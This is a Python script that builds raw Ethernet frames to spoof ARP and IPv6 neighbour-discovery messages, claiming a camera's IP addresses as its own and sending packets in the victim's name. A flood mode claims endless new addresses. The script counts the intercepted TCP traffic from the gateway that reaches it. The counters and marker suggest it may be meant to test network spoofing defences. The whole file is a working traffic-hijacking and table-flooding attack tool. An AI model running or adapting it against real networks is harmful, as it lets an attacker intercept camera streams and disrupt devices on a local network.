#!/usr/bin/env python3
"""A device beside the cameras that says the address of one of them is its own, again and again.

forger.py INTERFACE MODE OWN_MAC VICTIM_IP VICTIM_IP6 GATEWAY_IP GATEWAY_IP6 GATEWAY_MAC MARKER

MODE forge: claims by ARP (as a request, as an answer, in a frame with the victim's hardware address), by neighbour
discovery (question, advertisement), and sends as the victim, by IPv4 and by IPv6. MODE flood: claims ever new addresses of the zone.
Ends with its input. Prints a JSON object: how many frames were sent, and how many came that were sent to it.
"""
import errno
import json
import select
import socket
import struct
import sys

INTERFACE, MODE, OWN, VICTIM, VICTIM6, GATEWAY, GATEWAY6, GATEWAY_MAC, MARKER = sys.argv[1:10]


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


OWN, GATEWAY_MAC, MARKER = mac(OWN), mac(GATEWAY_MAC), MARKER.encode()


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ether(source, kind, rest):
    return GATEWAY_MAC + source + struct.pack("!H", kind) + rest


def arp(operation, claimed, source=OWN):
    return ether(source, 0x0806, struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, OWN,
                                             socket.inet_aton(claimed), GATEWAY_MAC, socket.inet_aton(GATEWAY)) + MARKER)


def ip4(source, rest):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(rest), 7, 0, 64, 17, 0, socket.inet_aton(source),
                       socket.inet_aton(GATEWAY))
    return ether(OWN, 0x0800, head[:10] + struct.pack("!H", checksum(head)) + head[12:] + rest)


def icmp6(source, rest):
    ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, GATEWAY6)
    pseudo = ends + struct.pack("!IxxxB", len(rest), 58) + rest
    message = rest[:2] + struct.pack("!H", checksum(pseudo)) + rest[4:]
    return ether(OWN, 0x86DD, struct.pack("!IHBB", 6 << 28, len(message), 58, 255) + ends + message)


def udp6(source):
    ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, GATEWAY6)
    length = 8 + len(MARKER)
    datagram = struct.pack("!HHHH", 5000, 123, length, 0) + MARKER
    sum_ = checksum(ends + struct.pack("!IxxxB", length, 17) + datagram)
    datagram = datagram[:6] + struct.pack("!H", sum_) + datagram[8:]
    return ether(OWN, 0x86DD, struct.pack("!IHBB", 6 << 28, length, 17, 64) + ends + datagram)


def ask6(source):
    return icmp6(source, b"\x87\0\0\0\0\0\0\0" + socket.inet_pton(socket.AF_INET6, GATEWAY6) + b"\1\1" + OWN)


def advertise6(source, target):
    return icmp6(source, b"\x88\0\0\0\x60\0\0\0" + socket.inet_pton(socket.AF_INET6, target) + b"\2\1" + OWN)


def forged(victim_mac):
    yield arp(1, VICTIM)
    yield arp(2, VICTIM)
    yield arp(2, VICTIM, victim_mac)
    yield ip4(VICTIM, struct.pack("!HHHH", 5000, 123, 8 + len(MARKER), 0) + MARKER)
    yield ask6(VICTIM6)
    yield advertise6(VICTIM6, VICTIM6)
    yield advertise6("fe80::66", VICTIM6)
    yield udp6(VICTIM6)


def claims(number):
    low = number % 65_000 + 300
    yield arp(1, f"192.168.{low >> 8}.{low & 255}")
    yield ask6(f"2001:db8:1::{number >> 16:x}:{number & 0xFFFF:x}:66")


wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind((INTERFACE, 0))
wire.setblocking(False)
victim_mac = wire.getsockname()[4]
sent = heard = number = 0
while True:
    for frame in forged(victim_mac) if MODE == "forge" else claims(number):
        try:
            wire.send(frame)
            sent += 1
        except OSError as error:
            # On a busy machine the other end takes a while: this one is lost.
            if error.errno != errno.ENOBUFS:
                raise
    number += 1
    if select.select([sys.stdin], [], [], 0.002)[0]:
        break
    while True:
        try:
            came = wire.recv(2048)
        except BlockingIOError:
            break
        # To it, and a stream: what the gateway says to a camera.
        stream = (came[12:14] == b"\x08\0" and came[23] == 6) or (came[12:14] == b"\x86\xdd" and came[20] == 6)
        heard += came[:6] == OWN and stream
print(json.dumps({"sent": sent, "heard": heard}))
